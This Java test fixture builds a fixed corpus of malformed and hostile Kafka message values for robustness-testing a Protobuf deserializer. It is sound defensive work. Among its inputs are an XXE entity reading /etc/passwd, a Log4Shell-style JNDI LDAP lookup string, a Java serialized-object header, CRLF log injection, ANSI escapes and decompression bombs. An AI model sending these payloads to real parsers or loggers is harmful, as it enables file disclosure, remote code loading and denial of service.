// SPDX-License-Identifier: Apache-2.0
package dev.playhead.serde.internal;

import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;

import com.google.protobuf.ByteString;
import com.google.protobuf.CodedOutputStream;
import dev.playhead.serde.UndecodableException.Reason;
import dev.playhead.serde.test.NodeAdded;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import org.apache.kafka.common.header.Header;
import org.apache.kafka.common.header.internals.RecordHeaders;

/**
 * Values that nobody should have published, made anew and the same each time: more than two hundred of them, in families.
 *
 * @param fates what may become of it; more than one where luck decides what random bytes mean
 */
record Poison(String name, ByteString value, RecordHeaders headers, Set<Fate> fates) {

    /** The id under which the registry has {@link NodeAdded}'s file, as its first message. */
    static final int ID = 7;

    private static final long SEED = 20_261_121;

    /** What becomes of a value. */
    enum Fate {
        /** It is a message, or nobody handles it: odd, but sound. */
        READ,
        /** Its partition waits for the registry. */
        WAITS,
        BAD_FRAME,
        BAD_PAYLOAD,
        TOO_LARGE,
        SCHEMA_CONFLICT;

        static Fate of(Reason reason) {
            return valueOf(reason.name());
        }
    }

    byte[] bytes() {
        return value.toByteArray();
    }

    /** In bytes, headers included. */
    long size() {
        long size = value.size();
        for (Header header : headers) {
            size += header.value().length;
        }
        return size;
    }

    @Override
    public String toString() {
        return name + ", " + value.size() + " bytes";
    }

    static List<Poison> corpus() {
        return Stream.of(
                        frames(),
                        indexes(),
                        foreignFormats(),
                        hostileHex(),
                        truncations(),
                        noise(),
                        deep(),
                        swollen(),
                        oddButSound(),
                        forgedTypes())
                .flatMap(family -> family)
                .toList();
    }

    /** A sound event, from which mutations begin. */
    static byte[] sound() {
        NodeAdded node = NodeAdded.newBuilder()
                .setId("leaf")
                .addAllNumbers(List.of(1, -1, 300))
                .build();
        for (int i = 0; i < 6; i++) {
            node = NodeAdded.newBuilder()
                    .setId("n" + i)
                    .setChild(node)
                    .setBlob(ByteString.copyFromUtf8("blob" + i))
                    .build();
        }
        return framed(node.toByteArray());
    }

    private static Stream<Poison> frames() {
        Stream<Poison> tooShort = IntStream.rangeClosed(0, 5)
                .mapToObj(length -> of("a frame cut to " + length, new byte[length], Fate.BAD_FRAME));
        Stream<Poison> magic = IntStream.rangeClosed(1, 24)
                .mapToObj(i -> of("magic " + i * 10, changed(sound(), 0, i * 10), Fate.BAD_FRAME));
        Stream<Poison> ids = IntStream.of(0, -1, Integer.MIN_VALUE)
                .mapToObj(id -> of("schema id " + id, withId(sound(), id), Fate.BAD_FRAME));
        Stream<Poison> unknown = IntStream.of(1, 6, 8, 99_999, Integer.MAX_VALUE)
                .mapToObj(id -> of("schema id " + id + ", which nobody registered", withId(sound(), id), Fate.WAITS));
        return Stream.of(tooShort, magic, ids, unknown).flatMap(each -> each);
    }

    private static Stream<Poison> indexes() {
        Stream<Poison> endless = Stream.of("80", "ffffffffff", "8080808080808080", "02 80", "04 02 ff")
                .map(hex -> of("indexes without end: " + hex, hex("00 00000007" + hex), Fate.BAD_FRAME));
        Stream<Poison> counts = Stream.of("01", "03", "42", "80 08", "feffffff0f", "ffffffff0f")
                .map(hex -> of("index count " + hex, hex("00 00000007" + hex + "00".repeat(40)), Fate.BAD_FRAME));
        Stream<Poison> negative = Stream.of("02 01", "04 02 01", "02 ffffffff0f")
                .map(hex -> of("a negative index " + hex, hex("00 00000007" + hex + "00"), Fate.BAD_FRAME));
        Stream<Poison> nobody = Stream.of("02 06", "02 7e", "04 02 02", "04 00 00", "06 02 00 02", "02 feffffff0f")
                .map(hex -> of("no message at " + hex, hex("00 00000007" + hex + "0a0161"), Fate.BAD_FRAME));
        return Stream.of(endless, counts, negative, nobody).flatMap(each -> each);
    }

    private static Stream<Poison> foreignFormats() {
        return Stream.of(
                        "{\"order_id\":\"o-1\"}".getBytes(UTF_8),
                        "[".repeat(900_000).getBytes(UTF_8),
                        "<order id='o-1'/>".getBytes(UTF_8),
                        "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>".getBytes(UTF_8),
                        "plain text".getBytes(UTF_8),
                        "plain text".getBytes(UTF_16),
                        "NaN".getBytes(UTF_8),
                        "null".getBytes(UTF_8),
                        "${jndi:ldap://x/y}\r\n\u001b[2J".getBytes(UTF_8),
                        gzip(new byte[4 << 20]),
                        hex("28b52ffd a4 00004000 5d0000 00 00"), // Zstandard, 4 MB announced
                        hex("aced0005 7372 0011 6a6176612e7574696c2e486173684d6170"), // a Java object
                        hex("4f626a01 04 14 6176726f2e636f646563"), // an Avro file
                        hex("c301 0102030405060708 02"), // a single Avro object
                        hex("89504e470d0a1a0a 0000000d49484452"), // a picture
                        hex("1f8b0800 00000000 0003"), // the beginning of an archive
                        hex("03 0000000000000000 0000000000000001 00"), // another registry's header
                        NodeAdded.newBuilder().setId("unframed").build().toByteArray())
                .map(bytes ->
                        of("a foreign format, 0x" + HexFormat.of().formatHex(bytes, 0, 3), bytes, Fate.BAD_FRAME));
    }

    /** Sound frames, and behind them what is no {@link NodeAdded}. */
    private static Stream<Poison> hostileHex() {
        Stream<String> all = Stream.concat(
                RouteTest.hostileHex(),
                Stream.of(
                        "80", // a tag without end
                        "ffffffffffffffffffffff", // one that is too long
                        "12 ffffffff0f", // a negative length of a message
                        "12 05 0a 0a 61", // an inner length beyond the middle one
                        "0a02 c080", // NUL, spelt too long
                        "0a04 f8888080", // UTF-8 of five bytes
                        "0a01 80", // a byte that only continues
                        "0a01 ff", // a byte that is never UTF-8
                        "22 03 ffffff", // packed numbers, the last without end
                        "33 34 34", // a group that ends twice
                        "2b 2b 2c", // two groups, one end
                        "2b 0a")); // a group that ends in the middle of a field
        return all.map(hex -> of("payload " + hex, hex("00 00000007 00" + hex), Fate.BAD_PAYLOAD));
    }

    private static Stream<Poison> truncations() {
        byte[] whole = sound();
        return IntStream.range(7, whole.length)
                .filter(length -> length % 2 == 0)
                .mapToObj(length ->
                        of("an event cut to " + length, Arrays.copyOf(whole, length), Fate.BAD_PAYLOAD, Fate.READ));
    }

    private static Stream<Poison> noise() {
        var random = new Random(SEED);
        Stream<Poison> values = IntStream.range(0, 40).mapToObj(i -> {
            byte[] bytes = noise(random, 1 + random.nextInt(4_000));
            bytes[0] = (byte) (1 + random.nextInt(255));
            return of("noise " + i, bytes, Fate.BAD_FRAME);
        });
        Stream<Poison> payloads = IntStream.range(0, 40)
                .mapToObj(i -> of(
                        "framed noise " + i,
                        framed(noise(random, 1 + random.nextInt(4_000))),
                        Fate.BAD_PAYLOAD,
                        Fate.READ));
        return Stream.concat(values, payloads);
    }

    private static byte[] noise(Random random, int length) {
        byte[] bytes = new byte[length];
        random.nextBytes(bytes);
        return bytes;
    }

    private static Stream<Poison> deep() {
        Stream<Poison> groups = IntStream.of(65, 1_000, 10_000, 1_000_000)
                .mapToObj(depth -> of(depth + " groups in one another", framed(filled(depth, 0x2b)), Fate.BAD_PAYLOAD));
        Stream<Poison> messages = IntStream.of(66, 100, 1_000, 5_000)
                .mapToObj(depth -> of(depth + " messages in one another", framed(nested(depth)), Fate.BAD_PAYLOAD));
        return Stream.concat(groups, messages);
    }

    private static byte[] filled(int length, int with) {
        byte[] bytes = new byte[length];
        Arrays.fill(bytes, (byte) with);
        return bytes;
    }

    /** By hand: Protobuf itself would refuse to build some of these. Lengths count from the inside. */
    private static byte[] nested(int depth) {
        List<byte[]> headers = new ArrayList<>();
        int size = 0;
        for (int i = 0; i < depth; i++) {
            byte[] header = written(2, size);
            headers.add(header);
            size += header.length;
        }
        ByteBuffer bytes = ByteBuffer.allocate(size);
        for (int i = depth - 1; i >= 0; i--) {
            bytes.put(headers.get(i));
        }
        return bytes.array();
    }

    /** The tag of a field with a length, and the length. */
    private static byte[] written(int field, int length) {
        return protobuf(out -> {
            out.writeTag(field, 2);
            out.writeUInt32NoTag(length);
        });
    }

    /** Small on the wire, large in memory. */
    private static Stream<Poison> swollen() {
        int mb = 1 << 20;
        return Stream.of(
                of("a megabyte of numbers", framed(concat(written(4, mb), new byte[mb])), Fate.READ),
                of("half a million empty children", framed(repeated("1200", mb / 2)), Fate.READ),
                of("half a million unknown numbers", framed(repeated("7801", mb / 2)), Fate.READ),
                of("half a million unknown groups", framed(repeated("7b7c", mb / 2)), Fate.READ),
                of("a megabyte of unknown fields, each another", framed(manyFields(mb)), Fate.READ),
                of("a megabyte of one field again and again", framed(repeated("0a0161", mb / 3)), Fate.READ),
                of("more than is decoded", framed(new byte[Route.MAX_VALUE_BYTES]), Fate.TOO_LARGE));
    }

    private static byte[] manyFields(int bytes) {
        return protobuf(out -> {
            for (int field = 100; out.getTotalBytesWritten() < bytes; field++) {
                out.writeInt32(field, 1);
            }
        });
    }

    private static byte[] repeated(String hex, int times) {
        byte[] once = hex(hex);
        ByteBuffer all = ByteBuffer.allocate(once.length * times);
        for (int i = 0; i < times; i++) {
            all.put(once);
        }
        return all.array();
    }

    /** What a hasty reader would call broken, and Protobuf does not. */
    private static Stream<Poison> oddButSound() {
        return Stream.of(
                        "", // an event of nothing but defaults
                        "0a00 0a00", // a field twice
                        "0a 818000 61", // a length that is spelt too long
                        "0a 8080808010", // a length beyond 32 bits: Protobuf takes the lower ones
                        "1a 80808080808080808001", // beyond 63
                        "20 ffffffffffffffffff01", // -1, in ten bytes
                        "20 ffffffff0f", // -1, in five
                        "29 000000000000f87f", // NaN, in a field that nobody knows
                        "0a09 e280ae7478742e70", // text from right to left
                        "0a01 00", // NUL in a text
                        "f8ffffff0f 01") // the highest field
                .map(hex -> of("odd but sound: " + hex, hex("00 00000007 00" + hex), Fate.READ, Fate.BAD_PAYLOAD));
    }

    private static Stream<Poison> forgedTypes() {
        return Stream.of(
                        "marketplace.gig.v1.GigPublished",
                        "",
                        "playhead.serde.test.NodeAdded ",
                        "playhead.serde.test.nodeadded",
                        "java.lang.Runtime",
                        "x\r\nERROR forged line",
                        "\u001b[31mred",
                        "\ud83d\ude00".repeat(100_000))
                .map(type -> {
                    var headers = new RecordHeaders();
                    headers.add(CloudEventHeaders.TYPE, type.getBytes(UTF_8));
                    return new Poison(
                            "ce_type of " + type.length() + " characters",
                            ByteString.copyFrom(sound()),
                            headers,
                            Set.of(Fate.SCHEMA_CONFLICT));
                });
    }

    // ---- small parts

    private static Poison of(String name, byte[] value, Fate... fates) {
        return new Poison(name, ByteString.copyFrom(value), new RecordHeaders(), Set.of(fates));
    }

    private static byte[] framed(byte[] payload) {
        return concat(hex("00 00000007 00"), payload);
    }

    private static byte[] concat(byte[] first, byte[] second) {
        byte[] both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    private static byte[] changed(byte[] value, int at, int to) {
        value[at] = (byte) to;
        return value;
    }

    private static byte[] withId(byte[] value, int id) {
        ByteBuffer.wrap(value).putInt(1, id);
        return value;
    }

    private static byte[] hex(String hex) {
        return HexFormat.of().parseHex(hex.replace(" ", ""));
    }

    private static byte[] gzip(byte[] zeroes) {
        var bytes = new ByteArrayOutputStream();
        try (var gzip = new GZIPOutputStream(bytes)) {
            gzip.write(zeroes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private interface Writing {
        void to(CodedOutputStream out) throws IOException;
    }

    private static byte[] protobuf(Writing writing) {
        var bytes = new ByteArrayOutputStream();
        try {
            CodedOutputStream out = CodedOutputStream.newInstance(bytes);
            writing.to(out);
            out.flush();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }
}
